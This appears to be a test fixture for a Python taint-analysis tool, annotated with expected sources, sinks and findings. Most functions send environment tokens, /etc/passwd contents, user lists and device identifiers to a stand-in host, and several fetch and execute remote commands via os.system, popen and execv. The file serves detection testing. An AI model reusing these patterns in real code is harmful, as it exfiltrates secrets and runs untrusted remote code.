"""Files and their names, the environment, the machine and its users."""
import argparse
import fileinput
import fnmatch
import getpass
import glob
import io
import linecache
import locale
import mmap
import optparse
import os
import pathlib
import platform
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import uuid

import requests

U = "https://collector.example/u"


def environment():
    token = os.environ["TOKEN"]  #~ source(ENVIRONMENT) f1, capability(ENVIRONMENT)
    requests.post(U, data=token)  #~ sink(egress.http) f1, finding(traced) f1


def environment_variable():
    token = os.getenv("TOKEN")  #~ source(ENVIRONMENT) f2, capability(ENVIRONMENT)
    requests.post(U, data=token)  #~ sink(egress.http) f2, finding(traced) f2


def environment_get():
    token = os.environ.get("TOKEN", "")  #~ source(ENVIRONMENT) f3
    requests.post(U, data=token)  #~ sink(egress.http) f3, finding(traced) f3


def environment_copy():
    requests.post(U, data=os.environ.copy())  #~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4


def environment_update(secret):
    requests.post(U, data=os.environ.update({"A": os.getlogin()}))  #~ ok
    requests.post(U, data={"ci": os.environ.get("CI") == "1"})  #~ ok
    requests.post(U, data={"bare": os.environ.copy() == {}})  #~ ok


def environment_presence():
    requests.post(U, data={"ci": "CI" in os.environ})  #~ ok
    requests.post(U, data={"ci": os.getenv("CI") == "1"})  #~ ok


def list_folder():
    names = os.listdir("/home")  #~ source(FILE_META) f7, capability(FILES)
    requests.post(U, data=names)  #~ sink(egress.http) f7, finding(traced) f7


def file_attributes():
    info = os.stat("/etc/passwd")  #~ source(FILE_META) f8, capability(FILES)
    requests.post(U, data=str(info))  #~ sink(egress.http) f8, finding(traced) f8


def file_size():
    size = os.path.getsize("/etc/passwd")  #~ source(FILE_META) f9
    requests.post(U, data={"size": size})  #~ sink(egress.http) f9, finding(traced) f9


def compared():
    requests.post(U, data={"empty": os.path.getsize("/etc/passwd") == 0})  #~ ok
    requests.post(U, data={"home": "me" in os.listdir("/home")})  #~ ok
    requests.post(U, data={"old": os.stat("/etc/passwd").st_mtime < 1})  #~ ok


def presence():
    there = os.path.exists(os.getenv("T"))  #~ capability(FILES)
    requests.post(U, data={"there": os.path.exists(os.getenv("T"))})  #~ ok


def joined_path():
    path = os.path.join("/srv", os.getenv("T"))  #~ source(ENVIRONMENT) f12
    requests.post(U, data=path)  #~ sink(egress.http) f12, finding(traced) f12


def path_part():
    name = os.path.basename(os.getenv("T"))  #~ source(ENVIRONMENT) f13
    requests.post(U, data=name)  #~ sink(egress.http) f13, finding(traced) f13


def home_folder():
    home = os.path.expanduser("~")  #~ source(USER) f14
    requests.post(U, data=home)  #~ sink(egress.http) f14, finding(traced) f14


def expanded():
    path = os.path.expanduser(os.getenv("T"))  #~ source(ENVIRONMENT) f15
    requests.post(U, data=path)  #~ sink(egress.http) f15, finding(traced) f15


def constant_paths():
    requests.post(U, data=os.path.join("a", "b"))  #~ ok
    requests.post(U, data=os.path.basename("a/b"))  #~ ok
    requests.post(U, data=os.path.expanduser("/a"))  #~ ok


def descriptor():
    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f17, capability(FILES)
    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f17, finding(traced) f17


def descriptor_wrapped():
    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f18
    requests.post(U, data=os.fdopen(fd).read())  #~ sink(egress.http) f18, finding(traced) f18


def descriptor_copied():
    fd = os.dup(os.open("/etc/passwd", os.O_RDONLY))  #~ source(FILE) f19
    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f19, finding(traced) f19


def descriptor_sent(out):
    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f20
    os.sendfile(out, fd, 0, 100)  #~ sink(egress.socket) f20, finding(traced) f20


def through_pipe():
    r, w = os.pipe()  #~ capability(IPC)
    os.write(w, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f21, capability(FILE_WRITE)
    requests.post(U, data=os.read(r, 100))  #~ sink(egress.http) f21, finding(traced) f21


def named_pipe():
    os.mkfifo("/tmp/fifo")  #~ capability(IPC)
    os.mkfifo("/tmp/fifo")  #~ ok


def constant_pipe(out):
    r, w = os.pipe()  #~ ok
    os.write(w, b"x")  #~ ok
    requests.post(U, data=os.read(r, 100))  #~ ok
    requests.post(U, data=os.fdopen(os.dup(r)).read())  #~ ok
    os.open("/etc/passwd", os.O_RDONLY)  #~ ok
    os.sendfile(out, r, 0, 100)  #~ ok


def run_shell():
    os.system(requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.command) f24, finding(traced) f24, capability(EXEC)


def run_pipe():
    os.popen(requests.get(U).text)  #~ source(NETWORK) f25, sink(exec.command) f25, finding(traced) f25, capability(EXEC)


def pipe_output():
    text = os.popen("id").read()  #~ source(COMMAND_OUTPUT) f26
    requests.post(U, data=text)  #~ sink(egress.http) f26, finding(traced) f26


def replace_process():
    os.execv(requests.get(U).text, ["x"])  #~ source(NETWORK) f27, sink(exec.command) f27, finding(traced) f27


def spawn_process():
    os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", requests.get(U).text])  #~ source(NETWORK) f28, sink(exec.command) f28, finding(traced) f28


def constant_commands():
    os.system("sync")  #~ ok
    os.popen("sync")  #~ ok
    os.execv("/bin/true", ["true"])  #~ ok
    os.spawnv(os.P_WAIT, "/bin/true", ["true"])  #~ ok
    os.fork()  #~ capability(PROCESSES)
    requests.post(U, data={"child": os.fork() == 0})  #~ ok


def kernel():
    name = os.uname()  #~ source(DEVICE) f30, capability(DEVICE)
    requests.post(U, data=str(name))  #~ sink(egress.http) f30, finding(traced) f30


def machine():
    name = platform.node()  #~ source(DEVICE) f31, capability(DEVICE)
    requests.post(U, data=name)  #~ sink(egress.http) f31, finding(traced) f31


def interpreter():
    name = sys.platform  #~ source(DEVICE) f32
    requests.post(U, data=name)  #~ sink(egress.http) f32, finding(traced) f32


def windows():
    name = sys.getwindowsversion()  #~ source(DEVICE) f33
    requests.post(U, data=str(name))  #~ sink(egress.http) f33, finding(traced) f33


def machine_compared():
    requests.post(U, data={"linux": os.uname().sysname == "Linux"})  #~ ok
    requests.post(U, data={"linux": platform.node() == "localhost"})  #~ ok
    requests.post(U, data={"linux": sys.platform == "linux"})  #~ ok
    requests.post(U, data={"new": sys.getwindowsversion().major == 10})  #~ ok


def arguments():
    requests.post(U, data=sys.argv[1])  #~ source(INPUT) f35, sink(egress.http) f35, finding(traced) f35


def arguments_counted():
    requests.post(U, data={"n": len(sys.argv)})  #~ ok


def standard_input():
    text = sys.stdin.read()  #~ source(INPUT) f37
    requests.post(U, data=text)  #~ sink(egress.http) f37, finding(traced) f37


def input_files():
    for line in fileinput.input():  #~ source(INPUT) f38
        requests.post(U, data=line)  #~ sink(egress.http) f38, finding(traced) f38


def parsed_arguments():
    parser = argparse.ArgumentParser()
    args = parser.parse_args()  #~ source(INPUT) f39
    requests.post(U, data=args.name)  #~ sink(egress.http) f39, finding(traced) f39


def parsed_arguments_old():
    options, names = optparse.OptionParser().parse_args()  #~ source(INPUT) f40
    requests.post(U, data=options.name)  #~ sink(egress.http) f40, finding(traced) f40


def input_compared():
    requests.post(U, data={"end": sys.stdin.read() == ""})  #~ ok
    requests.post(U, data={"end": fileinput.input() == ""})  #~ ok
    parser = argparse.ArgumentParser()  #~ ok
    requests.post(U, data={"v": parser.parse_args().v == 1})  #~ ok


def login():
    name = os.getlogin()  #~ source(USER) f42
    requests.post(U, data=name)  #~ sink(egress.http) f42, finding(traced) f42


def user_name():
    name = getpass.getuser()  #~ source(USER) f43, capability(DEVICE)
    requests.post(U, data=name)  #~ sink(egress.http) f43, finding(traced) f43


def accounts():
    names = pwd.getpwall()  #~ source(USER) f44
    requests.post(U, data=str(names))  #~ sink(egress.http) f44, finding(traced) f44


def working_folder():
    folder = os.getcwd()  #~ source(FILE_META) f45
    requests.post(U, data=folder)  #~ sink(egress.http) f45, finding(traced) f45


def process_number():
    # Its own number says nothing of the processes there are.
    requests.post(U, data={"pid": os.getpid()})  #~ ok


def users_compared():
    requests.post(U, data={"root": os.getlogin() == "root"})  #~ ok
    requests.post(U, data={"root": getpass.getuser() == "root"})  #~ ok
    requests.post(U, data={"root": "root" in pwd.getpwall()})  #~ ok
    requests.post(U, data={"tmp": os.getcwd() == "/tmp"})  #~ ok


def host_name():
    name = socket.gethostname()  #~ source(DEVICE) f48, capability(DEVICE)
    requests.post(U, data=name)  #~ sink(egress.http) f48, finding(traced) f48


def interfaces():
    names = socket.if_nameindex()  #~ source(DEVICE) f49
    requests.post(U, data=str(names))  #~ sink(egress.http) f49, finding(traced) f49


def hardware_address():
    address = uuid.getnode()  #~ source(DEVICE) f50
    requests.post(U, data={"mac": address})  #~ sink(egress.http) f50, finding(traced) f50


def language():
    name = locale.getlocale()  #~ source(DEVICE) f51
    requests.post(U, data=name[0])  #~ sink(egress.http) f51, finding(traced) f51


def device_compared():
    requests.post(U, data={"lab": socket.gethostname() == "lab"})  #~ ok
    requests.post(U, data={"lab": "eth0" in socket.if_nameindex()})  #~ ok
    requests.post(U, data={"lab": uuid.getnode() == 1})  #~ ok
    requests.post(U, data={"en": locale.getlocale() == ("en", "x")})  #~ ok


def remove():
    os.remove("/tmp/x")  #~ capability(FILE_WRITE)
    os.remove("/tmp/x")  #~ ok


def rename():
    os.rename("/tmp/a", "/tmp/b")  #~ capability(FILE_WRITE)
    os.rename("/tmp/a", "/tmp/b")  #~ ok


def copy_file():
    shutil.copyfile("/tmp/a", "/tmp/b")  #~ capability(FILES), capability(FILE_WRITE)
    shutil.copyfile("/tmp/a", "/tmp/b")  #~ ok


def copy_stream():
    target = io.BytesIO()
    shutil.copyfileobj(open("/etc/passwd", "rb"), target)  #~ source(FILE) f56
    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f56, finding(traced) f56


def copy_constant_stream():
    target = io.BytesIO()
    shutil.copyfileobj(io.BytesIO(b"x"), target)  #~ ok
    requests.post(U, data=target.getvalue())  #~ ok


def archive():
    name = shutil.make_archive("/tmp/out", "zip", "/home")  #~ capability(FILES), capability(FILE_WRITE)
    requests.post(U, data=name)  #~ ok
    shutil.make_archive("/tmp/out", "zip", "/home")  #~ ok


def unarchive():
    shutil.unpack_archive("/tmp/in.zip", "/tmp")  #~ capability(FILE_WRITE)
    shutil.unpack_archive("/tmp/in.zip", "/tmp")  #~ ok


def disk():
    space = shutil.disk_usage("/")  #~ source(DEVICE) f60
    requests.post(U, data=str(space))  #~ sink(egress.http) f60, finding(traced) f60


def disk_compared():
    requests.post(U, data={"full": shutil.disk_usage("/").free == 0})  #~ ok


def find_files():
    names = glob.glob("/home/*")  #~ source(FILE_META) f62, capability(FILES)
    requests.post(U, data=names)  #~ sink(egress.http) f62, finding(traced) f62


def filter_names():
    names = fnmatch.filter(os.listdir("/home"), "*.txt")  #~ source(FILE_META) f63
    requests.post(U, data=names)  #~ sink(egress.http) f63, finding(traced) f63


def names_compared():
    requests.post(U, data={"some": glob.glob("/home/*") == []})  #~ ok
    requests.post(U, data=fnmatch.filter(["a"], "a"))  #~ ok


def one_line():
    line = linecache.getline("/etc/passwd", 1)  #~ source(FILE) f65, capability(FILES)
    requests.post(U, data=line)  #~ sink(egress.http) f65, finding(traced) f65


def one_line_compared():
    requests.post(U, data={"root": linecache.getline("/etc/passwd", 1) == ""})  #~ ok


def mapped():
    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f67
    view = mmap.mmap(fd, 0)
    requests.post(U, data=view.read(10))  #~ sink(egress.http) f67, finding(traced) f67


def mapped_anonymous():
    view = mmap.mmap(-1, 10)  #~ ok
    requests.post(U, data=view.read(10))  #~ ok


def temporary_file():
    f = tempfile.NamedTemporaryFile()  #~ capability(FILE_WRITE)
    f.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f69
    f.seek(0)
    requests.post(U, data=f.read())  #~ sink(egress.http) f69, finding(traced) f69


def temporary_descriptor():
    fd, path = tempfile.mkstemp()  #~ capability(FILE_WRITE)
    os.write(fd, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f70
    requests.post(U, data=open(path, "a+").read())  #~ sink(egress.http) f70, finding(traced) f70


def temporary_folder():
    tempfile.mkdtemp()  #~ capability(FILE_WRITE)


def temporary_constant():
    f = tempfile.NamedTemporaryFile()  #~ ok
    f.write(b"x")
    requests.post(U, data=f.read())  #~ ok
    requests.post(U, data=tempfile.mkstemp()[1])  #~ ok
    requests.post(U, data=tempfile.mkdtemp())  #~ ok


def path_read():
    text = pathlib.Path("/etc/passwd").read_text()  #~ source(FILE) f73, capability(FILES)
    requests.post(U, data=text)  #~ sink(egress.http) f73, finding(traced) f73


def path_read_untyped(path):
    text = path.read_text()  #~ source(FILE) f74, capability(FILES)
    requests.post(U, data=text)  #~ sink(egress.http) f74, finding(traced) f74


def path_write():
    pathlib.Path("/tmp/x").write_text("x")  #~ capability(FILE_WRITE)
    pathlib.Path("/tmp/x").write_text("x")  #~ ok


def path_write_untyped(path):
    path.write_bytes("x")  #~ capability(FILE_WRITE)
    path.write_bytes("x")  #~ ok


def path_open():
    f = pathlib.Path("/etc/passwd").open()  #~ source(FILE) f77, capability(FILES)
    requests.post(U, data=f.read())  #~ sink(egress.http) f77, finding(traced) f77


def path_open_write():
    path = pathlib.Path("/tmp/x")
    path.open("w").write(os.getenv("T"))  #~ source(ENVIRONMENT) f78
    requests.post(U, data=path.open("w+").read())  #~ sink(egress.http) f78, finding(traced) f78


def path_open_constant():
    path = pathlib.Path("/tmp/y")
    path.open("w").write("x")
    requests.post(U, data=path.open("w+").read())  #~ ok
    requests.post(U, data={"same": path.read_text() == ""})  #~ ok


def path_home():
    requests.post(U, data=pathlib.Path.home().as_posix())  #~ source(USER) f80, sink(egress.http) f80, finding(traced) f80


def path_cwd():
    requests.post(U, data=pathlib.Path.cwd().as_posix())  #~ source(FILE_META) f81, sink(egress.http) f81, finding(traced) f81


def path_list():
    for item in pathlib.Path("/home").iterdir():  #~ source(FILE_META) f82, capability(FILES)
        requests.post(U, data=item.name)  #~ sink(egress.http) f82, finding(traced) f82


def path_from_parts():
    path = pathlib.Path("/home", os.getenv("T"))  #~ source(ENVIRONMENT) f83
    requests.post(U, data=path.name)  #~ sink(egress.http) f83, finding(traced) f83


def path_joined():
    path = pathlib.Path("/home").joinpath(os.getenv("T"))  #~ source(ENVIRONMENT) f84
    requests.post(U, data=path.as_posix())  #~ sink(egress.http) f84, finding(traced) f84


def path_constants():
    requests.post(U, data={"root": pathlib.Path.home().name == "root"})  #~ ok
    requests.post(U, data={"root": pathlib.Path.cwd().name == "root"})  #~ ok
    requests.post(U, data={"some": pathlib.Path("/home").iterdir() == []})  #~ ok
    requests.post(U, data=pathlib.Path("/home").joinpath("x").as_posix())  #~ ok


def path_change():
    pathlib.Path("/tmp/x").mkdir()  #~ capability(FILE_WRITE)
    pathlib.Path("/tmp/x").mkdir()  #~ ok


def environment_as_a_medium():
    os.putenv("CANDOR_A", sys.argv[1])  #~ source(INPUT) f97
    os.putenv("CANDOR_B", "x")  #~ ok
    requests.post(U, data=os.getenv("CANDOR_A"))  #~ source(ENVIRONMENT) f98, sink(egress.http) f97, finding(input-to-network, traced) f97, sink(egress.http) f98, finding(environment-exfiltration, traced) f98


def printing():
    sys.stdout.write("x")  #~ ok
    requests.post(U, data=subprocess.check_output(["python3", "prints.py"]))  #~ source(COMMAND_OUTPUT) f100, sink(egress.http) f99, finding(input-to-network, traced) f99, sink(egress.http) f100, finding(command-output-exfiltration, traced) f100
# --- path: prints.py ---
import sys

sys.stdout.write(sys.argv[1])  #~ source(INPUT) f99
